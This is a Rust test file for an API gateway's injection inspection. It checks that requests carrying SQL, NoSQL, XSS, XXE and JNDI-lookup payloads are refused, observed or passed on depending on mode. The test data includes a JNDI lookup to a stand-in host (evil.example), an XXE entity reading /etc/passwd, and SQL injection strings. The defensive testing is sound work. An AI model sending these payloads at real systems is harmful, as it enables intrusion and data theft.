//! Injections in every part of a request, refused or observed; clean requests as they came.

use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use super::support::upstream::Recording;
use super::support::{House, body, field, settings, status};
use crate::settings::Inspect;

const ATTACK: &str = "x' OR '1'='1";

async fn house(inspect: Inspect) -> (House, Recording) {
    let upstream = Recording::new().await;
    let mut settings = settings(&format!("http://{}", upstream.address));
    settings.inspect_body_limit = 4096;
    for route in &mut settings.routes {
        route.inspect = inspect;
    }
    (House::with(settings).await, upstream)
}

fn post(token: &str, kind: &str, text: &str) -> String {
    format!(
        "POST /orders HTTP/1.1\r\nHost: api.example\r\nAuthorization: Bearer {token}\r\n\
         Connection: close\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n{text}",
        text.len()
    )
}

fn bodies() -> Vec<(&'static str, String, &'static str)> {
    let part = "--b\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n";
    vec![
        ("application/json", format!(r#"{{"a":{{"b":[1,{{"c":"{ATTACK}"}}]}}}}"#), "sqli"),
        ("application/vnd.x+json; charset=utf-8", r#"{"user":{"$ne":null}}"#.into(), "nosql"),
        ("application/x-www-form-urlencoded", "a=1&b=x%27+OR+%271%27%3D%271".into(), "sqli"),
        (
            "multipart/form-data; boundary=b",
            format!("{part}<script>alert(1)</script>\r\n--b--\r\n"),
            "xss",
        ),
        (
            "application/json",
            format!(
                r#"{{"query":"query($v: String) {{ a(v: $v) {{ id }} }}","variables":{{"v":"{ATTACK}"}}}}"#
            ),
            "sqli",
        ),
        (
            "application/graphql",
            r#"{ user(name: "x\u0027; DROP TABLE users--") { id } }"#.into(),
            "sqli",
        ),
        (
            "application/xml",
            r#"<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>"#.into(),
            "xxe",
        ),
    ]
}

#[tokio::test]
async fn an_attack_in_the_head_is_refused_wherever_it_is() {
    let (house, upstream) = house(Inspect::Enforce).await;
    let token = house.token("orders:read");
    let cases = [
        ("GET /orders/x%27%20OR%20%271%27=%271", "", "sqli"),
        ("GET /orders/7?q=%3Cscript%3Ealert(1)%3C/script%3E", "", "xss"),
        ("GET /orders/7", "User-Agent: ${jndi:ldap://evil.example/a}\r\n", "lookup"),
        ("GET /orders/7", "Cookie: a=1; b=x' OR '1'='1\r\n", "sqli"),
    ];
    for (line, fields, class) in cases {
        let answer = house.ask_as(&token, line, fields).await;
        assert_eq!(status(&answer), 403, "{line} {fields}");
        assert!(!answer.contains("alert") && !answer.contains("OR '1'"), "{answer}");
        let (event, request) = house.events.next().await;
        assert_eq!(
            request.refused.map(|code| code.to_string()),
            Some(format!("injection:{class}"))
        );
        assert_eq!(event.who.subject.as_ref().map(|subject| subject.as_str()), Some("u1"));
    }
    assert!(upstream.requests().is_empty());
}

#[tokio::test]
async fn an_attack_in_a_body_is_refused_in_every_form() {
    let (house, upstream) = house(Inspect::Enforce).await;
    let token = house.token("orders:write");
    for (kind, text, class) in bodies() {
        let answer = house.raw(post(&token, kind, &text)).await;
        assert_eq!(status(&answer), 403, "{text}");
        let (_, request) = house.events.next().await;
        assert_eq!(
            request.refused.map(|code| code.to_string()),
            Some(format!("injection:{class}"))
        );
        assert_eq!(request.bytes_in, text.len() as u64);
    }
    assert!(upstream.requests().is_empty());
}

#[tokio::test]
async fn observing_forwards_and_says_so() {
    let (house, upstream) = house(Inspect::Observe).await;
    let token = house.token("orders:write");
    for (kind, text, class) in bodies() {
        let answer = house.raw(post(&token, kind, &text)).await;
        assert_eq!(status(&answer), 200, "{text}");
        let (_, request) = house.events.next().await;
        assert_eq!(
            request.would_refuse.map(|code| code.to_string()),
            Some(format!("injection:{class}"))
        );
        assert_eq!((request.status, request.refused), (200, None), "it was let through");
    }
    let arrived: Vec<_> = upstream.requests().iter().map(|text| body(text).to_owned()).collect();
    assert_eq!(arrived, bodies().into_iter().map(|(_, text, _)| text).collect::<Vec<_>>());
}

#[tokio::test]
async fn only_a_good_token_has_its_request_inspected() {
    let (house, upstream) = house(Inspect::Enforce).await;
    let answer = house.ask("GET /orders/7?q=%3Cscript%3Ealert(1)%3C/script%3E", "").await;
    assert_eq!(status(&answer), 401);
    let answer = house.ask("GET /open/7?q=%3Cscript%3Ealert(1)%3C/script%3E", "").await;
    assert_eq!(status(&answer), 403, "public routes too");
    assert!(upstream.requests().is_empty());
}

#[tokio::test]
async fn a_clean_body_arrives_as_it_was_sent() {
    let (house, upstream) = house(Inspect::Enforce).await;
    let token = house.token("orders:write");
    let text = "{ \"name\": \"Siobh\u{e1}n O'Brien\",\r\n\t\"note\": \"50 % off & more\" , \"n\": 1.0e3 }\n";
    assert_eq!(status(&house.raw(post(&token, "application/json", text)).await), 200);
    let arrived = upstream.only();
    assert_eq!(body(&arrived), text);
    assert_eq!(field(&arrived, "content-length"), Some(text.len().to_string().as_str()));
}

#[tokio::test]
async fn chunks_are_read_and_sent_on() {
    let (house, upstream) = house(Inspect::Enforce).await;
    let token = house.token("orders:write");
    let chunked = |text: &str| {
        let (a, b) = text.split_at(text.len() / 2);
        format!(
            "POST /orders HTTP/1.1\r\nHost: api.example\r\nAuthorization: Bearer {token}\r\n\
             Connection: close\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n\
             {:x}\r\n{a}\r\n{:x}\r\n{b}\r\n0\r\n\r\n",
            a.len(),
            b.len()
        )
    };
    assert_eq!(status(&house.raw(chunked(r#"{"a":"x' OR '1'='1"}"#)).await), 403);
    assert_eq!(status(&house.raw(chunked(r#"{"a":"clean"}"#)).await), 200);
    assert!(body(&upstream.only()).contains(r#"{"a":"clean"}"#));
}

#[tokio::test]
async fn what_is_too_large_or_too_deep_is_refused_or_only_observed() {
    let large = format!(r#"{{"a":"{}"}}"#, "b".repeat(5000));
    let deep = format!("{}{}", "[".repeat(90), "]".repeat(90));
    for (mode, code) in [(Inspect::Enforce, 413), (Inspect::Observe, 200)] {
        let (house, upstream) = house(mode).await;
        let token = house.token("orders:write");
        for text in [&large, &deep] {
            let answer = house.raw(post(&token, "application/json", text)).await;
            assert_eq!(status(&answer), code);
        }
        let arrived = upstream.requests();
        assert_eq!(arrived.len(), if code == 200 { 2 } else { 0 });
        assert!(arrived.iter().zip([&large, &deep]).all(|(text, sent)| body(text) == sent));
    }
}

#[tokio::test]
async fn a_chunked_body_beyond_the_limit_is_observed_whole() {
    let (house, upstream) = house(Inspect::Observe).await;
    let token = house.token("orders:write");
    let piece = "c".repeat(3000);
    let request = format!(
        "POST /orders HTTP/1.1\r\nHost: api.example\r\nAuthorization: Bearer {token}\r\n\
         Connection: close\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n\
         bb8\r\n{piece}\r\nbb8\r\n{piece}\r\nbb8\r\n{piece}\r\n0\r\n\r\n"
    );
    assert_eq!(status(&house.raw(request).await), 200);
    assert_eq!(body(&upstream.only()).matches('c').count(), 9000);
}

#[tokio::test]
async fn what_cannot_be_read_is_refused_or_streamed() {
    let (house, upstream) = house(Inspect::Enforce).await;
    let token = house.token("orders:write");
    let zipped = post(&token, "application/json", "{}")
        .replace("\r\n\r\n", "\r\nContent-Encoding: gzip\r\n\r\n");
    assert_eq!(status(&house.raw(zipped).await), 415);
    let picture = post(&token, "image/png", &"<script>alert(1)</script>".repeat(400));
    assert_eq!(status(&house.raw(picture).await), 200);
    assert_eq!(upstream.requests().len(), 1);
}

/// Some servers take the first of two types, others the last.
#[tokio::test]
async fn a_type_that_is_there_twice_is_no_way_around_inspection() {
    let (house, upstream) = house(Inspect::Enforce).await;
    let token = house.token("orders:write");
    let attack = format!(r#"{{"a":"{ATTACK}"}}"#);
    let twice = post(&token, "image/png\r\nContent-Type: application/json", &attack);
    let answer = house.raw(twice).await;
    assert_eq!((status(&answer), answer.contains("one media type")), (400, true));
    for list in ["image/png, application/json", "image/png application/json", "image/png\u{e9}"] {
        assert_eq!(status(&house.raw(post(&token, list, &attack)).await), 400, "{list}");
    }
    for plain in ["identity", ""] {
        let coded =
            post(&token, &format!("application/json\r\nContent-Encoding: {plain}"), &attack);
        assert_eq!(status(&house.raw(coded).await), 403, "`{plain}` leaves it as it is");
    }
    assert!(upstream.requests().is_empty());
}

#[tokio::test]
async fn observing_says_too_what_it_could_not_read() {
    let (house, upstream) = house(Inspect::Observe).await;
    let token = house.token("orders:write");
    let packed = post(&token, "application/json\r\nContent-Encoding: gzip", "zip");
    let long = post(&token, "application/json", &"1".repeat(5000));
    for (request, reason) in [(packed, "malformed"), (long, "too_large")] {
        assert_eq!(status(&house.raw(request).await), 200);
        let (_, seen) = house.events.next().await;
        assert_eq!(seen.would_refuse.map(|code| code.to_string()).as_deref(), Some(reason));
    }
    assert_eq!(upstream.requests().len(), 2);
}

#[tokio::test]
async fn a_slow_body_holds_nobody_else_up() {
    let (house, upstream) = house(Inspect::Enforce).await;
    let token = house.token("orders:read orders:write");
    let request = post(&token, "application/json", r#"{"a":"clean"}"#);
    let (first, last) = request.split_at(request.len() - 4);
    let mut slow = TcpStream::connect(house.address).await.expect("connect");
    slow.write_all(first.as_bytes()).await.expect("write");
    tokio::time::sleep(Duration::from_millis(50)).await;
    assert_eq!(status(&house.ask_as(&token, "GET /orders/7", "").await), 200);
    assert_eq!(upstream.requests().len(), 1, "nothing goes on before it was read");
    slow.write_all(last.as_bytes()).await.expect("write");
    let answer = super::support::read_to_close(&mut slow).await;
    assert_eq!(status(&answer), 200);
    assert_eq!(upstream.requests().len(), 2);
}

#[tokio::test]
async fn without_inspection_everything_goes_on() {
    let (house, upstream) = house(Inspect::Off).await;
    let token = house.token("orders:write");
    for (kind, text, _) in bodies() {
        assert_eq!(status(&house.raw(post(&token, kind, &text)).await), 200);
        assert_eq!(house.events.next().await.1.refused, None);
    }
    assert_eq!(upstream.requests().len(), bodies().len());
}
